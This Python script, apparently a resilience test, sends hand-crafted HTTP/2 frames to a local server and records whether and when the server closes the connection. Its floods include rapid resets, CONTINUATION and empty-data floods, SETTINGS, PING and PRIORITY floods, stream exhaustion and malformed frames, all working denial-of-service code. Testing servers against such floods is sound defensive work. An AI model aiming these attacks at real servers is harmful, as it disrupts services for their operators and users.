"""One attack over HTTP/2 by hand-made frames of python3-h2's hyperframe: h2_attack.py PORT HOST ATTACK. Writes a line of JSON: `sent` frames of the
attack before the other side ended the connection, `seconds` until then (null: it never did), `goaway` its error code, `streams` as advertised."""
import json
import select
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

port, host, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
encoder = Encoder()
seen = {"goaway": None, "streams": None, "resets": 0}
rest = b""


def head(stream, method="GET", end=True, end_headers=True, path="/"):
    frame = HeadersFrame(stream)
    frame.data = encoder.encode([(":method", method), (":scheme", "http"), (":authority", host), (":path", path)])
    if end_headers:
        frame.flags.add("END_HEADERS")
    if end:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def continuation(stream, data):
    frame = ContinuationFrame(stream)
    frame.data = data
    return frame.serialize()


def take(data):
    global rest
    rest += data
    while len(rest) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(rest)[:9])
        if len(rest) < 9 + length:
            return
        frame.parse_body(memoryview(rest)[9 : 9 + length])
        rest = rest[9 + length :]
        if isinstance(frame, GoAwayFrame) and (seen["goaway"] is None or frame.error_code):
            seen["goaway"] = frame.error_code
        elif isinstance(frame, RstStreamFrame):
            seen["resets"] += 1
        elif isinstance(frame, SettingsFrame) and 3 in frame.settings:
            seen["streams"] = frame.settings[3]


PAUSE = b""


def pieces():
    """What is sent, one frame of the attack (or a pair) after the other."""
    n = 20_000
    if attack == "resets":
        for i in range(n):
            yield head(2 * i + 1) + RstStreamFrame(2 * i + 1, error_code=8).serialize()
    elif attack == "late-resets":
        # As many as may be open at a time; they are well under way when they are reset.
        for first in range(0, n, 100):
            yield b"".join(head(2 * i + 1, path="/?ms=2000") for i in range(first, first + 100))
            yield PAUSE
            yield b"".join(RstStreamFrame(2 * i + 1, error_code=8).serialize() for i in range(first, first + 100))
    elif attack == "continuation":
        yield head(1, end_headers=False)
        for _ in range(n):
            yield continuation(1, b"\x00\x01a\x01b" * 10)
    elif attack == "empty-continuation":
        yield head(1, end_headers=False)
        for _ in range(n):
            yield continuation(1, b"")
    elif attack == "settings":
        for i in range(n):
            yield SettingsFrame(0, settings={1: 4096 + i % 2}).serialize()
    elif attack == "pings":
        for i in range(n):
            yield PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize()
    elif attack == "empty-data":
        yield head(1, method="POST", end=False)
        for _ in range(n):
            yield DataFrame(1, b"").serialize()
    elif attack == "priority":
        for i in range(n):
            yield PriorityFrame(2 * i + 1, depends_on=0, stream_weight=1, exclusive=False).serialize()
    elif attack == "window-updates":
        for _ in range(n):
            yield WindowUpdateFrame(0, window_increment=1).serialize()
    elif attack == "streams":
        # More at a time than are allowed, and none of them ends.
        for i in range(1_000):
            yield head(2 * i + 1, method="POST", end=False)
    elif attack == "half-a-frame":
        yield b"\x00\x40\x00\x00\x00\x00\x00\x00\x01abc"
    elif attack == "bad-frames":
        yield b"\x00\x00\x04\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00"


wire = socket.create_connection(("127.0.0.1", port))
settings = SettingsFrame(0)
if attack == "window-0":
    settings.settings = {4: 0}
wire.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings.serialize())
wire.setblocking(False)
begun = time.monotonic()
sent, ended, queue = 0, None, b""
source = pieces()
if attack == "window-0":
    queue = b"".join(head(2 * i + 1, path="/?bytes=1000000") for i in range(50))
finished = False
quiet_until = 0.0
while ended is None and time.monotonic() - begun < 12:
    while len(queue) < 65_536 and not finished and time.monotonic() >= quiet_until:
        piece = next(source, None)
        if piece is None:
            finished = True
        elif piece == PAUSE:
            quiet_until = time.monotonic() + 0.05
        else:
            queue += piece
            sent += 1
    readable, writable, _ = select.select([wire], [wire] if queue else [], [], 0.1 if time.monotonic() >= quiet_until else 0.01)
    try:
        if readable:
            data = wire.recv(65_536)
            if data == b"":
                ended = time.monotonic() - begun
            take(data)
        if writable and queue:
            queue = queue[wire.send(queue) :]
    except OSError:
        ended = time.monotonic() - begun
    if attack == "window-0" and seen["resets"] >= 50:
        ended = time.monotonic() - begun
    if attack == "streams" and finished and seen["resets"] >= 900:
        ended = time.monotonic() - begun
print(json.dumps({"sent": sent, "seconds": ended, **seen}))
